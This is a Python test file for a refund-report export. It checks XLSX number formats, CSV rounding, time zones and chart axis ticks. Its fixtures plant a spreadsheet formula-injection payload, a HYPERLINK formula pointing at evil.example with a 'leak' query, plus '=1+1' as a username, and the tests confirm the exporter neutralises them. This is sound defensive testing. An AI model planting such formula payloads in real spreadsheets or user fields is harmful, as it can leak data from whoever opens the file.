"""The refund report's XLSX reads well in Excel: percentages, hours, dates, widths, no formula.

And its CSV carries the same figures rounded as the desk shows them.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest

from aftersales.core import clock
from aftersales.core.export import Hours, Rate, to_csv, to_xlsx
from aftersales.core.models import Role
from aftersales.refunds import service
from aftersales.refunds.charts import breakdown_chart, round_ticks, series_chart
from aftersales.refunds.models import Refund, RefundStatus
from aftersales.refunds.report import Row
from connectors.base import AfterSaleStatus, RefundDecision, RefundWriteResult
from tests.conftest import sign_in
from tests.factories import create_hostile_shop, create_user
from tests.refunds.test_service import NOW, open_request

pytestmark = pytest.mark.usefixtures("clean_db")
ZONE = ZoneInfo("Asia/Shanghai")
FORMULA = '=HYPERLINK("http://evil.example/?leak","点我")'


async def hostile_shop_with_a_paid_refund_and_a_miss() -> Refund:
    """Titles and the store named like a formula; one refund paid through the desk,
    one the platform agreed after our deadline (a row in "Missed deadlines")."""
    clock.travel(NOW - clock.now())
    await create_hostile_shop(now=NOW, text=FORMULA)
    agent = await create_user(username="=1+1", role=Role.SUPERVISOR)
    refund = await open_request()
    clock.travel(timedelta(hours=3))
    await service.approve(refund.id, actor=agent)
    await service.start_writeback(refund.id)
    await service.finish_writeback(
        refund.id,
        RefundDecision.APPROVE,
        RefundWriteResult(status=AfterSaleStatus.REFUNDED, platform_status="SUCCESS"),
    )
    missed = await open_request()
    late = clock.now() - timedelta(hours=1)
    await Refund.filter(id=missed.id).update(
        status=RefundStatus.REFUNDED,
        due_at=late - timedelta(hours=2),
        refunded_at=late,
        auto_agreed=True,
        approved_amount=Decimal(1),
    )
    await create_user(username="owner", role=Role.OWNER)
    return missed


async def test_the_xlsx_has_percentages_hours_dates_widths_and_no_formula(
    client: httpx.AsyncClient, app
) -> None:
    missed = await hostile_shop_with_a_paid_refund_and_a_miss()
    await sign_in(client, "owner")
    answer = await client.get("/refunds/report.xlsx")
    assert answer.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    assert FORMULA in {c.value for c in cells if c.data_type == "s"}

    summary = {row[0].value: row[1:] for row in book["Summary"].iter_rows(min_row=2)}
    rate = summary["Refund rate (orders)"][0]
    assert isinstance(rate.value, float) and 0 < rate.value <= 1, "a fraction, not '12.3%'"
    assert rate.number_format == "0.0%"
    hours = summary["Median hours to decision"][0]
    assert isinstance(hours.value, float) and hours.number_format == "0.0"
    assert summary["Refunded"][0].number_format == "0.00"

    series = book["Over time"]
    days = [row[0] for row in series.iter_rows(min_row=2)]
    assert days and all(isinstance(c.value, datetime) and c.is_date for c in days)
    rates = [row[4] for row in series.iter_rows(min_row=2) if row[4].value is not None]
    assert rates and {c.number_format for c in rates} == {"0.0%"}

    misses = book["Missed deadlines"]
    (row,) = list(misses.iter_rows(min_row=2))
    assert row[0].value == missed.id
    refunded = await Refund.get(id=missed.id)
    local = refunded.refunded_at.astimezone(ZONE).replace(tzinfo=None, second=0, microsecond=0)
    assert row[4].is_date and row[4].value.replace(second=0, microsecond=0) == local, (
        "the store's wall clock"
    )
    assert "yy" in row[3].number_format and "hh:mm" in row[4].number_format

    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", "the header stays in view"
        assert all(c.font.b for c in sheet[1])
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert all(w and w >= 8 for w in widths), sheet.title
    products = book["By product"]
    assert products.column_dimensions["A"].width > products.column_dimensions["C"].width


async def test_the_csv_rounds_rates_hours_and_dates_like_the_desk(
    client: httpx.AsyncClient, app
) -> None:
    missed = await hostile_shop_with_a_paid_refund_and_a_miss()
    await sign_in(client, "owner")

    async def rows_of(table: str) -> list[list[str]]:
        answer = await client.get(f"/refunds/report/{table}.csv")
        assert answer.status_code == 200
        return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))

    summary = {r[0]: r[1:] for r in (await rows_of("summary"))[1:]}
    assert re.fullmatch(r"\d+\.\d%", summary["Refund rate (orders)"][0])
    assert re.fullmatch(r"\d+\.\d", summary["Median hours to decision"][0])
    assert re.fullmatch(r"\d+\.\d\d", summary["Refunded"][0])
    series = (await rows_of("series"))[1:]
    assert all(date.fromisoformat(r[0]) for r in series)
    assert all(re.fullmatch(r"(\d+\.\d%)?", r[4]) for r in series)
    (miss,) = (await rows_of("misses"))[1:]
    refunded = (await Refund.get(id=missed.id)).refunded_at.astimezone(ZONE)
    assert miss[4] == refunded.strftime("%Y-%m-%d %H:%M"), "ISO, in the store's time zone"
    assert [r[0] for r in (await rows_of("store"))[1:]] == ["'" + FORMULA]
    assert "'=1+1" in [r[0] for r in (await rows_of("agent"))[1:]]


def test_the_writer_formats_by_kind_and_leaves_empty_figures_blank() -> None:
    when = datetime(2026, 12, 1, 2, 30, tzinfo=ZoneInfo("UTC"))
    table = (
        ["Text", "Rate", "Hours", "Amount", "When", "Day", "Nothing"],
        [
            ["=SUM(A1)", Rate(0.1234), Hours(5.25), Decimal("-5.00"), when, date(2026, 12, 1),
             Rate(None)],
        ],
    )  # fmt: skip
    (row,) = list(csv.reader(io.StringIO(to_csv(table, zone=ZONE).decode("utf-8-sig"))))[1:]
    assert row == ["'=SUM(A1)", "12.3%", "5.2", "-5.00", "2026-12-01 10:30", "2026-12-01", ""]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx({"t": table}, {}, zone=ZONE))).active
    (cells,) = list(sheet.iter_rows(min_row=2))
    assert (cells[0].value, cells[0].data_type) == ("=SUM(A1)", "s")
    assert (cells[1].value, cells[1].number_format) == (pytest.approx(0.1234), "0.0%")
    assert (cells[2].value, cells[2].number_format) == (5.25, "0.0")
    assert (cells[3].value, cells[3].number_format) == (-5, "0.00")
    assert cells[4].value == datetime(2026, 12, 1, 10, 30) and cells[4].is_date
    assert cells[5].value == datetime(2026, 12, 1) and cells[5].number_format == "yyyy-mm-dd"
    assert cells[6].value is None


def test_chart_axes_count_in_round_steps() -> None:
    assert round_ticks(987.1) == [0, 200, 400, 600, 800, 1000]
    assert round_ticks(3.3) == [0, 1, 2, 3, 4]
    assert round_ticks(0.7) == [0, 0.2, 0.4, 0.6, 0.8]
    assert round_ticks(0) == [0, 1], "an empty chart still has an axis"
    rows = [
        Row(key=day, label=day, amount=Decimal(amount), refunds=1, paid=Decimal(paid))
        for day, amount, paid in (
            ("2026-11-01", "123.45", "1033"),
            ("2026-11-02", "987.10", "7777"),
            ("2026-11-03", "33.30", "999"),
        )
    ]
    svg = series_chart(rows, title="t", amount_label="a", rate_label="r")
    numbers = {float(n) for n in re.findall(r"<text[^>]*>([\d.]+)</text>", svg)}
    assert {0, 200, 1000} <= numbers, "amounts"
    assert {5, 10, 15} <= numbers and all(n == round(n) for n in numbers), "and rates, round"
    bars = breakdown_chart(rows, title="t", now_label="a", before_label="b")
    assert {"0", "200", "400", "1000"} <= set(re.findall(r"<text[^>]*>([\d.]+)</text>", bars))
